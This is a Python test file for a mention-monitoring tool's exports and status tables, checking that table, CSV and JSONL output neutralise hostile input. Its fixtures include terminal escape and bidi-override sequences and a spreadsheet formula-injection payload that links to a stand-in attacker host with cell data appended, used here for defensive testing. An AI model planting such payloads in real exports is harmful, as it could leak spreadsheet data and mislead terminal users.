"""Mention exports and status tables: what reaches a terminal or a spreadsheet is inert."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from monitor.models import Mention, Score, Scored, StoredMention
from monitor.report import export_mentions, status_table, write_mentions
from monitor.store import Store

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
HOSTILE_TEXT = (
    "acme \x1b[2J\x1b[H cleared \x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\ "
    "\u202eexe.txt\x00 done"
)
FORMULA_AUTHOR = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def stored(tmp_path: Path, author: str, text: str) -> list[StoredMention]:
    """The mention as the store gives it back, so the export sees exactly what was kept."""
    mention = Mention(
        "reddit", "t3_1", "https://e.example/1", author, text, NOW - timedelta(hours=1)
    )
    with Store(tmp_path / "m.db") as store:
        store.save_poll(
            "Acme",
            "reddit",
            [Scored(mention, "Acme", Score(-0.6, 0.0, 0.5, 0.5, "negative"))],
            None,
            0,
            NOW,
        )
        return store.mentions()


def test_table_export_has_no_escape_controls_or_bidi_characters(tmp_path: Path) -> None:
    out = export_mentions(stored(tmp_path, "mallory\x1b[31m", HOSTILE_TEXT), "table")
    assert not any(c in out for c in "\x1b\x00\u202e\x07\x9b\x9d")
    assert "acme cleared click exe.txt done" in out
    assert "mallory" in out


def test_csv_export_neutralises_a_formula_author(tmp_path: Path) -> None:
    out = export_mentions(stored(tmp_path, FORMULA_AUTHOR, "acme text"), "csv")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["author"] == "'" + FORMULA_AUTHOR


def test_csv_export_neutralises_every_formula_lead_character(tmp_path: Path) -> None:
    texts = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"]
    mentions = stored(tmp_path, "bob", "acme")
    rows = [replace(mentions[0], text=t) for t in texts]
    got = [r["text"] for r in csv.DictReader(io.StringIO(export_mentions(rows, "csv")))]
    assert got == ["'" + t for t in texts]


def test_csv_export_keeps_numbers_and_plain_text(tmp_path: Path) -> None:
    out = export_mentions(stored(tmp_path, "bob", "acme is fine"), "csv")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert (row["author"], row["text"], row["compound"]) == ("bob", "acme is fine", "-0.6")


def test_jsonl_export_keeps_the_text_byte_for_byte(tmp_path: Path) -> None:
    out = export_mentions(stored(tmp_path, FORMULA_AUTHOR, HOSTILE_TEXT), "jsonl")
    record = json.loads(out)
    # All but the NUL, which a Mention drops on arrival (PostgreSQL cannot store it).
    assert (record["author"], record["text"]) == (FORMULA_AUTHOR, HOSTILE_TEXT.replace("\x00", ""))


def test_jsonl_export_writes_each_row_before_reading_the_next(tmp_path: Path) -> None:
    [mention] = stored(tmp_path, "bob", "acme")
    out = io.StringIO()
    lines_seen_before_each_read: list[int] = []

    def rows() -> Iterator[StoredMention]:
        for i in range(3):
            lines_seen_before_each_read.append(out.getvalue().count("\n"))
            yield replace(mention, native_id=str(i))

    write_mentions(rows(), "jsonl", out)
    assert lines_seen_before_each_read == [0, 1, 2]
    assert [json.loads(x)["native_id"] for x in out.getvalue().splitlines()] == ["0", "1", "2"]


def test_csv_export_of_nothing_still_has_the_full_header() -> None:
    assert export_mentions([], "csv").split(",")[:3] == ["channel", "native_id", "brand"]


FEED_WARNINGS = [
    "rss feed https://news.example.com/very/long/path/to/the/acme/product/announcements/feed.xml "
    "failing since 2026-11-19T08:00:00Z: HTTP 404 Not Found",
    "rss feed https://blog.example.org/categories/industry-analysis/enterprise-software/rss "
    "failing since 2026-11-20T09:30:00Z: timed out after 10s",
    "rss feed https://third.example.net/feed failing since 2026-11-20T11:00:00Z: not RSS or Atom",
]


def status_lines(tmp_path: Path, warning: str | None = None, error: str | None = None) -> list[str]:
    with Store(tmp_path / "m.db") as store:
        store.save_poll("Acme", "rss", [], None, 0, NOW, warning=warning)
        if error is not None:
            store.record_poll_error("Acme", "rss", error, NOW)
        return status_table(store.poll_states()).splitlines()


def test_status_shows_each_feed_problem_in_full_as_an_error_row(tmp_path: Path) -> None:
    lines = status_lines(tmp_path, warning="; ".join(FEED_WARNINGS))
    errors = [line for line in lines if line.startswith("ERROR")]
    assert len(errors) == 3
    for line, warning in zip(errors, FEED_WARNINGS, strict=True):
        assert line.split(None, 3) == ["ERROR", "Acme", "rss", warning]


def test_status_counts_the_problems_of_each_channel(tmp_path: Path) -> None:
    lines = status_lines(tmp_path, warning="; ".join(FEED_WARNINGS))
    assert lines[0].split()[-1] == "errors"
    assert lines[2].split()[-1] == "3"


def test_status_shows_a_failed_poll_in_full_as_an_error(tmp_path: Path) -> None:
    error = "rss: every feed failed: " + "x" * 150
    lines = status_lines(tmp_path, error=error)
    assert [line for line in lines if line.startswith("ERROR")] == [
        f"ERROR  Acme   rss      last poll failed: {error}"
    ]


def test_status_of_a_healthy_channel_has_no_error_rows(tmp_path: Path) -> None:
    lines = status_lines(tmp_path)
    assert len(lines) == 3 and not any(line.startswith("ERROR") for line in lines)
